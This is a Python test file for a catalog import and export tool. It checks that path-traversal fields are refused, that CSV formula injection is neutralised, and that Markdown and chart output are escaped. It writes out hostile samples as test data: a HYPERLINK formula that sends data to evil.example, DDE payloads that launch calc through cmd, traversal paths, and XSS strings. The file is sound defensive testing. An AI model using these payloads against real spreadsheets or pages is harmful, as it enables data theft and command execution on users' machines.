"""Outputs and imports that hostile text cannot subvert (issue 19, docs/tables.md, docs/reliability.md).

- ``discretion import`` writes only under ``--out``: a payload whose ``field`` is a path
  (``../../x``, ``/abs/x``) is refused before anything is written;
- CSV cells that a spreadsheet would run as formulas (``=``, ``+``, ``-``, ``@``, tab, CR) are
  neutralised with a leading apostrophe in ``export --format csv`` and in the audit's deviations
  CSV, and ``import`` undoes exactly that, so the table still round-trips;
- the audit summary (Markdown) escapes the catalog's text, and the chart draws it as text.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from discretion.catalog.catalog import Catalog
from discretion.cli import main
from discretion.tables.columns import csv_cell, read_csv_cell

ROOT = Path(__file__).resolve().parents[1]
MINI = ROOT / "tests" / "fixtures" / "catalogs" / "mini"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")

# Hostile and awkward cell texts, and how each must be written to a CSV file.
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
DDE = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+86 0578 1234567"
TAB = "\t=1+1"
DASH_TEXT = "-号线沿线临街建筑物外堆放物品"  # a legitimately leading '-' in text
SUM = "=1+1"
NEGATIVE = "-5"  # a plain number: no formula, written as it is
QUOTED = "'=已经是文本"  # a text that itself begins with an apostrophe and '='
WRITTEN = {HYPERLINK: "'" + HYPERLINK, DDE: "'" + DDE, AT: "'" + AT, PLUS: "'" + PLUS,
           TAB: "'" + TAB, SUM: "'" + SUM, DASH_TEXT: "'" + DASH_TEXT, NEGATIVE: NEGATIVE, QUOTED: "'" + QUOTED}


def _copy_catalog(tmp_path: Path) -> Path:
    root = tmp_path / "catalog"
    shutil.copytree(MINI, root)
    return root


def _edit(path: Path, change: Any) -> None:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    change(data)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


def _read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def _write_csv(path: Path, rows: list[list[str]]) -> None:
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows(rows)


def _assert_no_live_formula(rows: list[list[str]]) -> None:
    for number, row in enumerate(rows[1:], 2):
        for cell in row:
            assert not cell.startswith(FORMULA_START) or PLAIN_NUMBER.fullmatch(cell), (number, cell)


# --- import writes only under --out ---------------------------------------------------------


def _exported(tmp_path: Path) -> Path:
    table = tmp_path / "table.csv"
    assert main(["export", str(MINI), "--format", "csv", "--out", str(table)]) == 0
    return table


def _set_payload_field(path: Path, field: str) -> None:
    rows = _read_csv(path)
    column = rows[0].index("_item")
    row = next(r for r in rows[1:] if r[column])
    payload = json.loads(row[column])
    payload["field"] = field
    row[column] = json.dumps(payload, ensure_ascii=False, separators=(",", ":"))
    _write_csv(path, rows)


def _files(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()}


@pytest.mark.parametrize("sheet", ["benchmarks", "lists"])
@pytest.mark.parametrize("kind", ["relative", "absolute"])
def test_import_refuses_a_payload_field_that_points_outside_out(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], sheet: str, kind: str) -> None:
    work = tmp_path / "work"
    work.mkdir()
    table = _exported(work)
    target_dir = tmp_path / "elsewhere"
    target_dir.mkdir()
    # out/benchmarks/<field>.yaml and out/lists/lighter/<field>.yaml (out is work/out/catalog):
    # each reaches tmp_path/elsewhere/x.yaml
    field = {("relative", "benchmarks"): "../../../../elsewhere/x",
             ("relative", "lists"): "../../../../../elsewhere/x",
             ("absolute", "benchmarks"): str(target_dir / "x"),
             ("absolute", "lists"): str(target_dir / "x")}[kind, sheet]
    _set_payload_field(table if sheet == "benchmarks" else work / "table-lists.csv", field)
    before = _files(tmp_path)
    capsys.readouterr()

    out = work / "out" / "catalog"
    code = main(["import", str(table), "--out", str(out)])

    err = capsys.readouterr().err
    assert code == 1, err
    assert not (target_dir / "x.yaml").exists()
    assert _files(tmp_path) == before and not out.exists()  # nothing written at all
    assert "row 2, column _item" in err
    assert f"has the field {field!r}, which is not a field code" in err
    assert "expected: a field code (capital letters and digits): SRHJ" in err
    assert "fix: correct \"field\" in the _item payload" in err
    assert "未写入任何文件" in err
    assert "Traceback" not in err


def test_import_refuses_a_payload_field_the_fields_do_not_list(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    table = _exported(tmp_path)
    _set_payload_field(table, "NOSUCH")
    out = tmp_path / "out"
    assert main(["import", str(table), "--out", str(out)]) == 1
    err = capsys.readouterr().err
    assert "has the field 'NOSUCH', which the table's fields do not list" in err
    assert "expected: a field code: SRHJ" in err and "未写入任何文件" in err
    assert not out.exists()  # refused before writing, not written and then found invalid


def test_catalog_writer_checks_every_file_is_inside_out(tmp_path: Path) -> None:
    """The last guard, under import_table's own check: no file named by a field code that is
    not one is written, and nothing at all is written then."""
    from discretion.catalog.writer import write_catalog
    from discretion.errors import DiscretionError

    catalog = Catalog.load(MINI, cache=False)
    item = next(iter(catalog.benchmarks.values()))
    out = tmp_path / "out"
    with pytest.raises(DiscretionError, match="not be a file inside --out"):
        write_catalog(out, catalog.manifest, None, list(catalog.fields.values()),
                      [item.model_copy(update={"field": "../../x"})], [])
    assert not out.exists() and not (tmp_path / "x.yaml").exists()


# --- CSV formula injection ------------------------------------------------------------------


def _hostile_catalog(tmp_path: Path) -> Path:
    root = _copy_catalog(tmp_path)

    def benchmarks(data: dict[str, Any]) -> None:
        first, second = data["items"]
        first["title"] = HYPERLINK
        first["subject"] = SUM
        first["power_code"] = AT
        for tier, text in zip(first["tiers"], (DDE, NEGATIVE, QUOTED), strict=True):
            tier["description"] = text
        first["tiers"][0]["level"] = "-轻微"
        second["title"] = DASH_TEXT
        second["tiers"][0]["description"] = PLUS

    def lists(data: dict[str, Any]) -> None:
        data["items"][0]["title"] = HYPERLINK
        data["items"][0]["conditions_text"] = DDE

    _edit(root / "benchmarks" / "SRHJ.yaml", benchmarks)
    _edit(root / "lists" / "lighter" / "SRHJ.yaml", lists)
    return root


def test_export_csv_neutralises_formulas_and_import_round_trips(tmp_path: Path) -> None:
    root = _hostile_catalog(tmp_path)
    catalog = Catalog.load(root, cache=False)
    table = tmp_path / "table.csv"
    assert main(["export", str(root), "--format", "csv", "--out", str(table)]) == 0

    rows, lists = _read_csv(table), _read_csv(tmp_path / "table-lists.csv")
    _assert_no_live_formula(rows)
    _assert_no_live_formula(lists)
    head = rows[0]
    by_id = [dict(zip(head, row, strict=True)) for row in rows[1:]]
    first = [r for r in by_id if r["_id"] == "LS-SRHJ-0001"]
    assert first[0]["违法行为名称"] == first[0]["事项名称"] == WRITTEN[HYPERLINK]
    assert first[0]["处罚对象"] == WRITTEN[SUM] and first[0]["权力编码"] == WRITTEN[AT]
    assert first[0]["违法程度"] == "'-轻微"
    assert [r["违法情形"] for r in first] == [WRITTEN[DDE], NEGATIVE, WRITTEN[QUOTED]]
    second = [r for r in by_id if r["_id"] == "LS-SRHJ-0003"]
    assert second[0]["违法行为名称"] == WRITTEN[DASH_TEXT]
    assert second[0]["违法情形"] == WRITTEN[PLUS]
    entry = dict(zip(lists[0], lists[1], strict=True))
    assert entry["事项名称"] == WRITTEN[HYPERLINK] and entry["适用条件"] == WRITTEN[DDE]

    # export → import: every item, entry, the manifest and the fields exactly
    out = tmp_path / "imported"
    assert main(["import", str(table), "--out", str(out)]) == 0
    again = Catalog.load(out, cache=False)
    assert {k: v.model_dump() for k, v in again.benchmarks.items()} == {
        k: v.model_dump() for k, v in catalog.benchmarks.items()}
    assert {k: v.model_dump() for k, v in again.lists.items()} == {
        k: v.model_dump() for k, v in catalog.lists.items()}
    assert again.manifest == catalog.manifest and again.fields == catalog.fields

    # the readable cells round-trip too: the same table with the payload of LS-SRHJ-0001 cleared
    # is imported from its readable columns, which the import reads back without the apostrophes
    id_col, item_col = head.index("_id"), head.index("_item")
    for row in rows[1:]:
        if row[id_col] == "LS-SRHJ-0001":
            row[id_col] = row[item_col] = ""
    plain = tmp_path / "plain.csv"
    _write_csv(plain, rows)
    shutil.copy(tmp_path / "table-lists.csv", tmp_path / "plain-lists.csv")
    out = tmp_path / "from-cells"
    assert main(["import", str(plain), "--out", str(out)]) == 0
    rebuilt = Catalog.load(out, cache=False).benchmarks["LS-SRHJ-0001"]
    original = catalog.benchmarks["LS-SRHJ-0001"]
    assert rebuilt.title == HYPERLINK and rebuilt.subject == SUM and rebuilt.power_code == AT
    assert [t.level for t in rebuilt.tiers] == [t.level for t in original.tiers]
    assert [t.description for t in rebuilt.tiers] == [DDE, NEGATIVE, QUOTED]


def _audit_input(tmp_path: Path, name: str = "decided.jsonl") -> Path:
    base: dict[str, Any] = {
        "item": "LS-SRHJ-0003", "party": {"kind": "individual", "age": 35},
        "occurred_on": "2022-03-01", "discovered_on": "2022-04-01", "decided_on": "2022-05-01",
        "first_offense": False, "harm": "ordinary", "correction": "overdue",
        "facts": {"area_m2": "20"}, "decided": {"outcome": "penalized", "fine": "1500"}}
    records = [{**base, "reference": reference}
               for reference in (HYPERLINK, DDE, AT, TAB, NEGATIVE, QUOTED, DASH_TEXT)]
    records.append({**base, "reference": "R-7", "item": "=1+1"})  # an invalid record: no such item
    source = tmp_path / name
    source.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records),
                      encoding="utf-8")
    return source


def test_audit_deviations_csv_neutralises_formulas(tmp_path: Path) -> None:
    source = _audit_input(tmp_path)
    out = tmp_path / "deviations.csv"
    assert main(["audit", str(source), "--catalog", str(MINI), "--out", str(out),
                 "--progress", "off"]) == 1  # the last record is invalid
    rows = _read_csv(out)
    _assert_no_live_formula(rows)
    body = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    references = [r["reference"] for r in body]
    originals = [HYPERLINK, DDE, AT, TAB, NEGATIVE, QUOTED, DASH_TEXT, "R-7"]
    assert references == [WRITTEN.get(text, text) for text in originals]
    assert [read_csv_cell(text) for text in references] == originals  # as docs/tables.md says
    assert [r["kind"] for r in body] == ["fine_above_statutory"] * 7 + ["invalid_record"]
    assert body[-1]["item"] == "'=1+1"
    assert body[0]["line"] == "1" and body[0]["expected"] == "200.00-1000.00"


# --- the audit summary and chart ------------------------------------------------------------

JURISDICTION = "<script>alert(1)</script>"
VERSION = "2022\n# 伪造的标题 | x"
FIELD_NAME = "[点我](javascript:alert(1))|**粗体**<img src=x onerror=alert(1)>&amp;_x_"


def _catalog_with_hostile_text(tmp_path: Path) -> Path:
    root = _copy_catalog(tmp_path)

    def manifest(data: dict[str, Any]) -> None:
        data["jurisdiction"], data["version"] = JURISDICTION, VERSION

    def fields(data: dict[str, Any]) -> None:
        data["fields"][0]["name"] = FIELD_NAME

    _edit(root / "manifest.yaml", manifest)
    _edit(root / "fields.yaml", fields)
    return root


def _cells(row: str) -> list[str]:
    """The cells of a Markdown table row: split at the '|' not escaped by a backslash."""
    return [c.strip() for c in re.split(r"(?<!\\)\|", row.strip())[1:-1]]


def test_audit_summary_escapes_catalog_text(tmp_path: Path) -> None:
    root = _catalog_with_hostile_text(tmp_path)
    source = _audit_input(tmp_path, "de`cided.jsonl")
    summary = tmp_path / "summary.md"
    assert main(["audit", str(source), "--catalog", str(root), "--out", str(tmp_path / "d.csv"),
                 "--summary", str(summary), "--progress", "off"]) == 1
    text = summary.read_text(encoding="utf-8")
    lines = text.splitlines()

    # no HTML, entity, link or image: each '<', '>', '&', '[', ']' is backslash-escaped
    assert not re.search(r"(?<!\\)[<>&\[\]]", text)
    assert "**粗体**" not in text and "\n# 伪造" not in text
    assert [line for line in lines if line.startswith("# ")] == [
        "# 执法监督审查摘要 · Supervision audit summary"]
    catalog_line = next(line for line in lines if line.startswith("- 裁量基准 Catalog: "))
    assert catalog_line.startswith(
        r"- 裁量基准 Catalog: \<script\>alert\(1\)\<\/script\> 2022 \# 伪造的标题 \| x (sha256 `")
    input_line = next(line for line in lines if line.startswith("- 输入 Input: "))
    assert input_line == f"- 输入 Input: ``{source}``"  # a code span that holds the backtick

    table = [line for line in lines if line.startswith("| ")]
    header, field_row = _cells(table[0]), _cells(table[1])
    assert len(field_row) == len(header)  # the name's '|' does not split the row
    assert field_row[:3] == ["SRHJ", r"\[点我\]\(javascript\:alert\(1\)\)\|\*\*粗体\*\*"
                             r"\<img src\=x onerror\=alert\(1\)\>\&amp\;\_x\_", "7"]


@pytest.mark.filterwarnings("ignore:Glyph .* missing from font")  # DejaVu has no Chinese
def test_audit_chart_draws_catalog_text_as_text(tmp_path: Path,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    import discretion.runs.audit_report

    root = _copy_catalog(tmp_path)
    _edit(root / "fields.yaml", lambda data: data["fields"][0].update(name=r"$\notacommand{x}$"))
    monkeypatch.setattr(discretion.runs.audit_report, "cjk_font", lambda: "DejaVu Sans")  # names are drawn
    source = _audit_input(tmp_path)
    chart = tmp_path / "chart.svg"
    assert main(["audit", str(source), "--catalog", str(root), "--out", str(tmp_path / "d.csv"),
                 "--chart", str(chart), "--progress", "off"]) == 1  # only the invalid record
    assert ET.parse(chart).getroot().tag.endswith("svg")


# --- the cell rule itself -------------------------------------------------------------------


@given(st.text(alphabet=st.sampled_from("=+-@\t\r'a1.,- 元"), max_size=8) | st.text(max_size=12))
def test_csv_cell_is_safe_and_read_csv_cell_undoes_it(text: str) -> None:
    written = csv_cell(text)
    assert read_csv_cell(written) == text
    assert not written.startswith(FORMULA_START) or PLAIN_NUMBER.fullmatch(written)
